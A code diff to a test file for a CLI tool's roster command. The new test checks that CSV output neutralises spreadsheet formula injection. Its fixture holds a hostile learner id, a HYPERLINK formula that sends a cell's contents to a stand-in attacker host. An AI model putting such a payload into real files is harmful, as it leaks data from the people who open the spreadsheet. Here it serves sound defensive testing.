@@ -2,7 +2,7 @@ import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:f
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, describe, expect, it } from "vitest";
-import { runLabkit } from "../harness/run-cli";
+import { runLabkit } from "../../harness/run-cli";
 
 const dir = mkdtempSync(join(tmpdir(), "labkit-roster-"));
 afterAll(() => rmSync(dir, { recursive: true, force: true }));
@@ -53,6 +53,27 @@ describe("labkit roster", () => {
         loginUrl: "https://labs.example.org/u/alan/?token=AlanToken456",
       },
     ]);
+  });
+
+  it("writes a learner id that starts like a formula as text, so a spreadsheet does not run it", async () => {
+    const hostile = join(dir, "hostile.json");
+    const id = '=HYPERLINK("https://evil.example/?"&A1,"open your lab")';
+    writeFileSync(
+      hostile,
+      JSON.stringify({
+        learnerUrls: { [id]: "https://labs.example.org/u/x/", "@ada": "https://labs.example.org/u/ada/" },
+      }),
+    );
+    const csv = await runLabkit(["roster", "--stack-outputs", hostile, "--format", "csv"]);
+    expect(csv.code).toBe(0);
+    expect(csv.stdout).toBe(
+      [
+        "learner,url",
+        `"'=HYPERLINK(""https://evil.example/?""&A1,""open your lab"")",https://labs.example.org/u/x/`,
+        "'@ada,https://labs.example.org/u/ada/",
+        "",
+      ].join("\n"),
+    );
   });
 
   it("runs `pulumi stack output --json --show-secrets` when no file is given", async () => {
